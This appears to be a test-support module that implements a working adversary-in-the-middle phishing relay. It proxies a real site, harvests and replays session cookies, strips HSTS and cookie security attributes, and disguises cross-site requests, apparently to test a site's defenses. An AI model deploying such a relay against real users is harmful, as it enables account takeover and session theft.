import { once } from 'node:events';
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { send, type Answer, type Sending } from '../../support/http-client';

export interface RelayOptions {
  /** The site it passes everything on to, as its users know it. */
  readonly origin: string;
  /** Where that site is really served. */
  readonly servedAt?: string;
  /** What else it changes in what victims get to see, such as the domain that their keys are asked for. */
  readonly changes?: readonly (readonly [from: string, to: string])[];
}

/**
 * A page in the middle, as phishing kits have it: victims see the real site at another address, and all they type is
 * passed on at once. It keeps each cookie that the site sets, which is what it is there for.
 */
export interface Relay {
  /** What its victims have in the address bar. */
  readonly url: string;
  /** Where it is reached without a name server. */
  readonly servedAt: string;
  /** Asks the real site with the cookies of its victim. */
  ask(path: string, sending?: Sending): Promise<Answer>;
  stop(): Promise<void>;
}

type Pairs = readonly (readonly [from: string, to: string])[];

export async function startRelay({ origin, servedAt = origin, changes = [] }: RelayOptions): Promise<Relay> {
  const stolen = new Map<string, string>();
  let toVictim: Pairs = changes;
  let toSite: Pairs = [];

  const server = createServer((req, res) => {
    passOn(req, res).catch(() => res.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const url = `http://evil.localhost:${port}`;
  const names: Pairs = [
    [origin, url],
    [encodeURIComponent(origin), encodeURIComponent(url)],
    [new URL(origin).host, new URL(url).host],
  ];
  toVictim = [...names.slice(0, 2), ...changes];
  toSite = names.map(([site, own]) => [own, site]);

  async function passOn(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const body = changed(await textOf(req), toSite);
    const { status, headers, bytes } = await askSite(req, body);
    for (const [name, value] of Object.entries(headers)) {
      if (DROPPED.has(name) || value === undefined) continue;
      if (name === 'set-cookie') res.setHeader(name, [value].flat().map(asOurs));
      else
        res.setHeader(
          name,
          [value].flat().map((one) => changed(one, toVictim)),
        );
    }
    const isText = /text|json|javascript|xml/.test(headers['content-type'] ?? '');
    res.writeHead(status).end(isText ? changed(bytes.toString(), toVictim) : bytes);
  }

  async function askSite(req: IncomingMessage, body: string) {
    const { hostname, port: sitePort } = new URL(servedAt);
    const sent = request({
      hostname,
      port: sitePort,
      method: req.method,
      path: changed(req.url ?? '/', toSite),
      headers: { ...headersFor(req), ...(body !== '' && { 'content-length': Buffer.byteLength(body) }) },
      agent: false,
    });
    sent.end(body);
    const [answer] = (await once(sent, 'response')) as [IncomingMessage];
    return { status: answer.statusCode ?? 502, headers: answer.headers, bytes: await bytesOf(answer) };
  }

  /** As the victim's browser would send them to the real site. */
  function headersFor({ headers }: IncomingMessage): Record<string, string> {
    const kept = Object.entries(headers).filter(([name]) => !DROPPED.has(name));
    const sent = Object.fromEntries(kept.map(([name, value]) => [name, changed(String(value), toSite)]));
    // Victims come by a link in a mail, which the site is not to know.
    const isFromOutside = sent['sec-fetch-site'] !== undefined && sent['sec-fetch-site'] !== 'same-origin';
    return {
      ...sent,
      host: new URL(origin).host,
      'accept-encoding': 'identity',
      'x-forwarded-proto': new URL(origin).protocol.slice(0, -1),
      ...(isFromOutside && { 'sec-fetch-site': 'none' }),
      ...(sent.cookie !== undefined && { cookie: asTheirs(sent.cookie) }),
    };
  }

  /** A cookie of the site, kept here and set for our host: browsers take none with such a name or domain from us. */
  function asOurs(line: string): string {
    const [pair = '', ...attributes] = line.split(/;\s*/);
    const at = pair.indexOf('=');
    const [name, value] = [pair.slice(0, at), pair.slice(at + 1)];
    if (value === '') stolen.delete(name);
    else stolen.set(name, value);
    const kept = attributes.filter((one) => !/^(?:secure$|domain=|samesite=none)/i.test(one));
    return [`${bare(name)}=${value}`, ...kept].join('; ');
  }

  const asTheirs = (header: string): string =>
    header
      .split(/;\s*/)
      .map((pair) => {
        const own = [...stolen.keys()].find((name) => pair.startsWith(`${bare(name)}=`));
        return own === undefined ? pair : own + pair.slice(bare(own).length);
      })
      .join('; ');

  return {
    url,
    servedAt: `http://127.0.0.1:${port}`,
    ask: (path, sending = {}) => {
      const cookie = [...stolen].map(([name, value]) => `${name}=${value}`).join('; ');
      const headers = { accept: 'application/json', cookie, origin, ...sending.headers };
      return send(servedAt, path, { ...sending, headers });
    },
    stop: async () => {
      server.close();
      server.closeAllConnections();
      await once(server, 'close');
    },
  };
}

/** What concerns one connection, or would tell the victim's browser more than suits us. */
const DROPPED = new Set([
  'connection',
  'keep-alive',
  'transfer-encoding',
  'content-length',
  'strict-transport-security',
]);

const bare = (name: string): string => name.replace(/^__(?:Host|Secure)-/, '');

const changed = (text: string, pairs: Pairs): string =>
  pairs.reduce((all, [from, to]) => all.replaceAll(from, to), text);

async function bytesOf(stream: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

const textOf = async (stream: IncomingMessage): Promise<string> => (await bytesOf(stream)).toString();
